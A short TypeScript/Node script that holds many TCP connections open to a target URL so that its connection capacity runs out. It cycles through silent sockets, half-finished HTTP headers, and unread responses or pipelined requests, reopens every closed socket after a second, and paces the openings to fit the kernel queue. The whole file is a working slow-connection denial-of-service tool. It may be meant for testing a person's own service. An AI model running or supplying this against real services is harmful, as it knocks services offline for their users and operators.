// Opens COUNT connections from the address SOURCE, in each form of abuse, and opens each again that is closed:
//   node hold-connections.ts URL COUNT SOURCE
import { connect } from "node:net";
import { setTimeout as delay } from "node:timers/promises";

const [url = "", count = "0", localAddress = "127.0.0.1"] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const silent = "";
const halfRequest = "GET /docs/errors HTTP/1.1\r\nHost: x\r\nX-Half";
const unreadRequest = "GET /nothing HTTP/1.1\r\nHost: x\r\n\r\n";
const unreadRequests = "GET /docs/errors HTTP/1.1\r\nHost: x\r\n\r\n".repeat(20);
/** These make the service work, and leave it less time to accept connections: a few of them are enough. */
const oneOf = 64;
const forms = [silent, halfRequest, unreadRequest];
const formAt = (index: number) =>
  index % oneOf === 0 ? unreadRequests : (forms[index % forms.length] ?? silent);
const againAfterMs = 1_000;

function hold(form: string): void {
  const socket = connect({ host: hostname, port: Number(port), localAddress });
  socket.on("error", () => {});
  socket.on("close", () => setTimeout(hold, againAfterMs, form));
  socket.write(form);
  if (form === silent || form === halfRequest) socket.resume();
  else socket.pause();
}

for (let index = 0; index < Number(count); index++) {
  if (index % 100 === 99) await delay(20); // faster than that the system's queue has no room for them
  hold(formAt(index));
}
